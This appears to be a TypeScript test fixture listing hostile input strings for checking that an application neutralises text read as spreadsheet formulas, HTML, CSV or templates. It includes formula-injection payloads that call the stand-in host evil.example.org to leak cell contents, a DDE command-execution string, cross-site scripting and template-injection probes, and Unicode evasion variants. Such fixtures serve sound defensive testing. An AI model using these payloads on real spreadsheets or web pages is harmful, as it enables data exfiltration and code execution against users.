/** Texts that would do harm where they were read as a formula, as HTML, as CSV or as a template. */
export const hostileTexts = [
  '=IMPORTXML("https://evil.example.org","//a")',
  '=HYPERLINK("https://evil.example.org/?"&A1,"Cliquez")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{7*7}',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '   =1+1',
  '\u00A0=1+1',
  '\u202E=1+1\u202C',
  '=1+1\ud83d',
  '\udc00=1',
  'a;b,c"d\n=1+1',
] as const;

/** As long as a cell may be. */
export const longText = `=${'1+'.repeat(24_999)}1`;
